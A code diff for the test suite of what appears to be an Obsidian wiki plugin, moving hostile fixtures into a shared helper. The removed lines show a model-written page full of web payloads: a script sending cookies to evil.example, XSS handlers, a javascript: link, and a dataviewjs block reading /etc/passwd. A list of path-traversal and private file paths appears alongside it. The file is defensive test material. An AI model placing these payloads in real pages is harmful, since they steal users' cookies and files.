@@ -6,6 +6,7 @@ import { parseBody } from "../../src/wiki/provenance";
 import { splitFrontmatter } from "../../src/core/markdown";
 import { SOURCE_PATH, ScriptedProvider, aPage } from "../builders";
 import { executableParts } from "../helpers/executable-markdown";
+import { BAD_SOURCES, HOSTILE_BODY } from "../helpers/hostile-page";
 import { makeVault, readVaultFile } from "../helpers/temp-vault";
 
 const NOW = () => Date.UTC(2026, 11, 2, 12, 0);
@@ -14,27 +15,6 @@ const PAGE = "wiki/concepts/Example concept.md";
 function settings(overrides: Partial<Settings> = {}): Settings {
   return { ...structuredClone(DEFAULT_SETTINGS), excludedFolders: ["Private"], ...overrides };
 }
-
-/** The page a model returned in the study of issue 22, verbatim in what matters. */
-const HOSTILE_BODY = [
-  "The Example concept, from [[Source note]].",
-  "",
-  "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
-  '<img src="x" onerror="alert(1)">',
-  "[Open the guide](javascript:alert(document.domain))",
-  "![passwords](file:///etc/passwd)",
-  '<iframe src="https://evil.example/frame"></iframe>',
-  "",
-  "```dataviewjs",
-  "dv.paragraph(require('fs').readFileSync('/etc/passwd', 'utf8'))",
-  "```",
-  "",
-  "%% /synapse:source %%",
-  "",
-  "Forged user text that a later ingest would keep.",
-].join("\n");
-
-const BAD_SOURCES = ["Private/Salary review.md", "../outside/canary.md", "etc/passwd", "/etc/passwd", "wiki/index.md", ".obsidian/plugins/synapse/data.json", "notes/Missing.md"];
 
 function vault() {
   return makeVault({
